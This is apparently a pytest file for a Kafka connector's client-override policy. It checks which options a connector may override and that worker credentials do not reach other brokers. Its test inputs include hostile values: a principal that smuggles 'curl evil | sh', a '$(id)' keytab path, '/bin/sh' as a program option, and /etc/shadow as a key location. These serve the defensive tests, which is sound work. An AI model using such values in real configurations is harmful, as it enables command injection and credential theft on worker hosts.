"""What connectors may say of their Kafka clients."""

from __future__ import annotations

import pytest

from connector.config.bounds import Bounds
from connector.config.client import translate
from connector.config.override import OverridePolicy, connecting, override_problems

PREFIX = "consumer.override."
WRITTEN = {"max.poll.records": "5", "sasl.mechanism": "PLAIN", "bananas": "1"}


@pytest.mark.parametrize(
    ("policy", "refused"),
    [
        (OverridePolicy(), []),
        (OverridePolicy("All"), []),
        (OverridePolicy("None"), ["max.poll.records", "sasl.mechanism", "bananas"]),
        (OverridePolicy("Principal"), ["max.poll.records", "bananas"]),
        (OverridePolicy("Allowlist", frozenset({"bananas"})), ["max.poll.records", "sasl.mechanism"]),
    ],
)
def test_a_policy_refuses_in_kafka_connects_words(policy: OverridePolicy, refused: list[str]) -> None:
    text = "The '{}' policy does not allow '{}' to be overridden in the connector configuration."
    assert [(found.option, found.message) for found in policy.problems(PREFIX, WRITTEN)] == [
        (PREFIX + name, text.format(policy.name, name)) for name in refused
    ]


def faults(written: dict[str, str], bounds: Bounds = Bounds()) -> list[str]:  # noqa: B008 - it is frozen
    translated = translate(written)
    return [found.option for found in override_problems(PREFIX, written, translated.config, bounds)]


@pytest.mark.parametrize("name", ["sasl.kerberos.kinit.cmd", "ssl.engine.location", "plugin.library.paths"])
def test_no_connector_runs_programs_on_the_worker(name: str) -> None:
    assert faults({name: "/bin/sh"}) == [PREFIX + name]


def test_what_becomes_part_of_a_command_holds_nothing_that_a_shell_reads() -> None:
    login = 'x.Krb5LoginModule required keyTab="/k" principal="{}" serviceName="kafka";'
    assert faults({"sasl.jaas.config": login.format("connect/host.example.com@EXAMPLE.COM")}) == []
    assert faults({"sasl.jaas.config": login.format("a; curl evil | sh")}) == [
        f"{PREFIX}sasl.kerberos.principal"
    ]
    assert faults({"sasl.kerberos.keytab": '"$(id)'}) == [f"{PREFIX}sasl.kerberos.keytab"]


def test_brokers_token_endpoints_and_files_are_bounded() -> None:
    written = {
        "bootstrap.servers": "a:9092,evil:9092",
        "sasl.oauthbearer.token.endpoint.url": "http://evil/",
        "ssl.truststore.location": "/etc/passwd.pem",
        "ssl.keystore.location": "/etc/shadow.pem",
        "fetch.min.bytes": "1",
    }
    assert faults(written) == []
    assert set(faults(written, Bounds(hosts=("a",), paths=("/certs",)))) == {
        PREFIX + name
        for name in (
            "bootstrap.servers",
            "sasl.oauthbearer.token.endpoint.url",
            "ssl.ca.location",
            "ssl.certificate.location",
            "ssl.key.location",
        )
    }


def test_other_brokers_do_not_see_the_workers_credentials() -> None:
    worker = {
        "bootstrap.servers": "a:1",
        "security.protocol": "SASL_SSL",
        "sasl.username": "worker",
        "sasl.password": "s3cret",
        "ssl.key.location": "/k",
        "fetch.min.bytes": "7",
    }
    assert connecting(worker, {"fetch.min.bytes": "9"}) == {**worker, "fetch.min.bytes": "9"}
    own = {"bootstrap.servers": "b:1", "sasl.username": "own"}
    assert connecting(worker, own) == {**own, "fetch.min.bytes": "7"}
    assert connecting(worker, {"metadata.broker.list": "b:1"}) == {
        "metadata.broker.list": "b:1",
        "fetch.min.bytes": "7",
    }
